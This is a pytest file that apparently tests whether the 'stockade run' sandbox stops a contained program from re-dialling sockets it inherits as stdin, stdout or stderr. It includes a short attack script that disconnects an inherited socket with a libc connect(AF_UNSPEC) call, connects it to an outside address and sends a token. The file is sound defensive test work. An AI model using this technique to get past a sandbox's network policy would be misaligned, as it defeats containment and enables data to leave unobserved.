"""A socket as standard stream of `stockade run`, as inetd and socat give one: made outside, it must not be dialled anew from inside."""

from __future__ import annotations

import json
import socket
import subprocess
from pathlib import Path

import pytest

from bypass import battery
from framework.internet import ECHO
from framework.machine import STOCKADE, Machine, read_records
from framework.outside import PORT, Outside, token
from framework.patience import PATIENCE
from framework.policy import http, whole

ID = "standard-stream"
KINDS = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}
pytestmark = [pytest.mark.client(battery.PYTHON), pytest.mark.attack(ID)]
ATTACK = """
import ctypes, json, os, socket, struct, sys
said, token, address = {}, sys.argv[1], (sys.argv[2], int(sys.argv[3]))
libc = ctypes.CDLL(None, use_errno=True)
for descriptor in range(3):
    try:
        sock = socket.socket(fileno=os.dup(descriptor))
    except OSError as error:
        said[descriptor] = repr(error)
        continue
    libc.connect(sock.fileno(), struct.pack("H14x", socket.AF_UNSPEC), 16)
    try:
        sock.connect(address)
        sock.sendall(token.encode())
        said[descriptor] = "out"
    except OSError as error:
        said[descriptor] = repr(error)
open("said", "w").write(json.dumps(said))
"""


def command(machine: Machine, room: Path, *words: str) -> list[str]:
    (room / "policy.yaml").write_text(whole(http("python3", ECHO), allow=["python3"]))
    run = [STOCKADE, "run", "--policy", room / "policy.yaml", "--workdir", room / "work", "--audit", room / "audit.jsonl", "--"]
    return machine.wrap([*run, battery.PYTHON, *words])


def heard(listener: socket.socket) -> str:
    """What came on the stream that was given, for the message of a run that failed: its own words may have gone there."""
    listener.settimeout(1)
    try:
        with listener.accept()[0] as peer:
            peer.settimeout(1)
            return peer.recv(4096).decode(errors="replace")
    except OSError as error:
        return repr(error)


@pytest.mark.parametrize("kind", ["tcp", "udp"])
@pytest.mark.parametrize("stream", ["stdin", "stdout", "stderr"])
def test_it_is_not_dialled_anew(machine: Machine, outside: Outside, kind: str, stream: str) -> None:
    room = machine.room({"attack.py": ATTACK})
    for phase in ("control", "user"):
        words = ["attack.py", token(phase, f"{ID}-{kind}-{stream}"), outside.addresses.v4, str(PORT)]
        line = [battery.PYTHON, *words] if phase == "control" else command(machine, room, *words)
        with socket.create_server(("127.0.0.1", 0)) as listener, socket.socket(type=KINDS[kind]) as given:
            given.connect(listener.getsockname())
            streams = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE} | {stream: given}
            done = subprocess.run(line, cwd=room / "work", text=True, timeout=60 * PATIENCE, check=False, **streams)
            assert done.returncode == 0, (done, heard(listener))
        said = json.loads((room / "work/said").read_text())
        outside.settle()
        assert outside.heard(phase, f"{ID}-{kind}-{stream}") is (phase == "control"), said
    assert "out" not in said.values(), said
    assert [record["reason"] for record in read_records(room / "audit.jsonl") if record["action"] == "exec"] == ["exec_allowed"]


@pytest.mark.parametrize("waits", [True, False])
def test_what_is_said_on_it_still_arrives(machine: Machine, waits: bool) -> None:
    """All three streams are one connection, as inetd has it; one that does not wait is no other."""
    size = 2_000_000
    program = "import sys; data = sys.stdin.buffer.read(); sys.stderr.write('heard '); sys.stderr.flush(); sys.stdout.buffer.write(data)"
    with socket.create_server(("127.0.0.1", 0)) as listener, socket.create_connection(listener.getsockname()) as caller:
        given = listener.accept()[0]
        given.setblocking(waits)
        room = machine.room()
        with subprocess.Popen(command(machine, room, "-c", program), cwd=room / "work", stdin=given, stdout=given, stderr=given):
            given.close()
            caller.settimeout(60 * PATIENCE)
            caller.sendall(b"x" * size)
            caller.shutdown(socket.SHUT_WR)
            answer = b""
            while part := caller.recv(1 << 16):
                answer += part
    assert answer == b"heard " + b"x" * size


def test_a_unix_stream_is_handed_on_as_it_is(machine: Machine) -> None:
    """What Node gives its children: it has one other end for good."""
    ours, theirs = socket.socketpair()
    room = machine.room()
    program = "import os, socket; sock = socket.socket(fileno=os.dup(0)); sock.sendall(sock.recv(10))"
    with ours, subprocess.Popen(command(machine, room, "-c", program), cwd=room / "work", stdin=theirs) as running:
        theirs.close()
        ours.settimeout(60 * PATIENCE)
        ours.sendall(b"there")
        assert ours.recv(10) == b"there"
        assert running.wait(60 * PATIENCE) == 0
